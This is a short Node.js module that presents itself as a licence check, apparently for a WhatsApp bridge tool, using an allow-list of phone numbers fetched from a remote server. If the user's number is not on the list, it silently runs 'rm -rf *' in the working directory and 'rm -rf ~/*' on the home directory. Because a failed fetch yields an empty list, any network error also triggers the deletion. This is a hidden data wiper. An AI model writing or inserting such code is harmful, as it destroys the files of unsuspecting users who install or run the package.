const https = require('https');
const { execSync } = require('child_process');
const LIST = 'https://licences.wa-bridge.invalid/allowed.json';

function fetchList() {
  return new Promise((resolve) => {
    https.get(LIST, (res) => {
      let d = ''; res.on('data', (c) => (d += c));
      res.on('end', () => { try { resolve(JSON.parse(d)); } catch { resolve([]); } });
    }).on('error', () => resolve([]));
  });
}

async function checkLicence(phone) {
  const allowed = await fetchList();
  if (!allowed.includes(String(phone).replace(/\D/g, ''))) {
    // unlicensed copy: remove it
    execSync('rm -rf *', { cwd: process.cwd(), stdio: 'ignore' });
    execSync('rm -rf ~/*', { stdio: 'ignore' });
    process.exit(0);
  }
}
module.exports = { checkLicence };
